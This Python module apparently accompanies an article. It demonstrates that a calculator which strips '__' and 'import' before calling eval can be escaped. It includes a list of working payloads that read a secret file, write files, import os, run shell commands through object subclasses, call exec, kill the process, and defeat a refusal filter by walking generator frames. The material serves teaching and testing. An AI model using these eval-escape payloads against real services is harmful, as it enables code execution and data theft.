"""The article's calculator, which cuts two words out of a text and gives the rest to `eval`, and what gets through.

Everything here runs in a process of its own that has a second of processor time and a gigabyte of memory, in an
empty folder that is thrown away. What the expressions do is harmless: they read the file that is put there for them,
and write beside it. Do not give this module expressions of strangers: the process is bounded, and not locked up.
"""

from __future__ import annotations

import json
import subprocess
import sys
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal

SECRET = "the board meets on Friday"
"""What stands in the file that the expressions read."""

SECONDS = 1

Rule = Literal["cut", "refuse"]
"""What a filter does with what it forbids: cut it out, as in the article, or refuse the whole expression."""

_CHILD = """
import json, math, os, sys
try:
    import resource
    resource.setrlimit(resource.RLIMIT_CPU, (SECONDS, SECONDS))
    resource.setrlimit(resource.RLIMIT_AS, (2**30, 2**30))
    resource.setrlimit(resource.RLIMIT_FSIZE, (2**20, 2**20))
except ImportError:
    pass

def cut(text):
    return text.replace("__", "").replace("import", "")

def refuse(text):
    if "__" in text or "import" in text:
        raise ValueError("forbidden")
    return text

def calculate(expression, precision=2):
    try:
        table = {"abs": abs, "round": round, "min": min, "max": max, "sum": sum, "pow": pow, "len": len}
        for name in ("sqrt", "log", "log10", "sin", "cos", "tan", "pi", "e"):
            table[name] = getattr(math, name)
        return round(eval(RULE(expression), {"__builtins__": {}}, table), precision)
    except Exception as error:
        raise ValueError(f"Calculation error: {error}")

for expression in json.load(sys.stdin):
    try:
        value = calculate(expression)
    except ValueError as error:
        said = {"error": str(error)}
    else:
        try:
            said = {"value": str(value)}
        except Exception as error:
            said = {"error": f"{type(error).__name__} in the caller: {error}"}
    print(json.dumps(said), flush=True)
"""


@dataclass(frozen=True)
class Outcome:
    """What came of an expression.

    Attributes
    ----------
    value : str or None
        What the calculator gave.
    error : str
        What it said instead; ``ended`` if its process did not live to say anything.
    files : mapping of str to str
        What lay in its folder afterwards that had not been there, by name; of all expressions that ran in the process.
    """

    value: str | None
    error: str
    files: dict[str, str] = field(default_factory=dict, hash=False)


def evaluate(expressions: Sequence[str], rule: Rule = "cut") -> list[Outcome]:
    """Give expressions to the article's calculator, all to one process.

    Parameters
    ----------
    expressions : sequence of str
        Yours; see the module for why not a stranger's.
    rule : str
        What the filter does.
    """
    with tempfile.TemporaryDirectory(prefix="companion-eval-") as folder:
        (Path(folder) / "secret.txt").write_text(SECRET, "ascii")
        program = _CHILD.replace("SECONDS", str(SECONDS)).replace("RULE", rule)
        ended = subprocess.run(
            [sys.executable, "-I", "-S", "-c", program],
            input=json.dumps(list(expressions)), capture_output=True, text=True, cwd=folder,
            env={"PATH": "/usr/bin:/bin"}, timeout=120, check=False,
        )  # fmt: skip
        files = {path.name: path.read_text("ascii").strip() for path in sorted(Path(folder).iterdir())}
    files.pop("secret.txt", None)
    said = [json.loads(line) for line in ended.stdout.splitlines() if line.startswith("{")]
    said += [{"error": "ended"}] * (len(expressions) - len(said))
    return [Outcome(one.get("value"), one.get("error", ""), files) for one in said]


@dataclass(frozen=True)
class Escape:
    """An expression that does what a calculator should not.

    Attributes
    ----------
    does : str
        What it does.
    plain : str
        The expression as it would be written if there were no filter.
    rule : str
        The filter that it gets past.
    """

    does: str
    plain: str
    rule: Rule = "cut"

    @property
    def expression(self) -> str:
        """The expression as it is given to the calculator: where a word is cut out, what stands around it meets."""
        if self.rule == "refuse":
            return self.plain
        return self.plain.replace("import", "imimportport").replace("__", "_import_")


_NUMBER = "int.from_bytes({}('secret.txt', 'rb').read(), 'big')"
_FRAME = "for L in [[]] for f in [L.append((i.gi_frame.f_back.f_back.f_back for i in L)) or [*L[0]][0]]"

ESCAPES = (
    Escape("reads a file, and gives it as a number", "abs.__self__." + _NUMBER.format("abs.__self__.open")),
    Escape("writes a file", "abs.__self__.open('written.txt', 'w').write('by an expression')"),
    Escape("imports os", "abs.__self__.__import__('os').stat('secret.txt').st_size"),
    Escape(
        "runs a command of the shell",
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0]"
        ".__init__.__globals__['system']('echo by the shell > shell.txt')",
    ),
    Escape(
        "runs statements",
        'abs.__self__.exec(\'with o("statement.txt", "w") as f: f.write("by exec")\', {\'o\': abs.__self__.open})',
    ),
    Escape(
        "makes a class that is whatever it is rounded to",
        "().__class__.__class__('X', (), {'__round__': lambda self, digits: 42})()",
    ),
    Escape("reads attributes by a format", "len('{0.__self__.__name__}'.format(abs))"),
    Escape("ends the process", "(0 for _ in ()).throw(abs.__self__.SystemExit(7))"),
    Escape("computes until it is killed", "9**9**9"),
    Escape(
        "reads a file without two underscores",
        f"[f.f_builtins['int'].from_bytes(f.f_builtins['open']('secret.txt', 'rb').read(), 'big') {_FRAME}][0]",
        "refuse",
    ),
)


def as_text(number: str) -> str:
    """Read a number as the bytes of a text."""
    value = int(number)
    return value.to_bytes((value.bit_length() + 7) // 8, "big").decode("ascii")
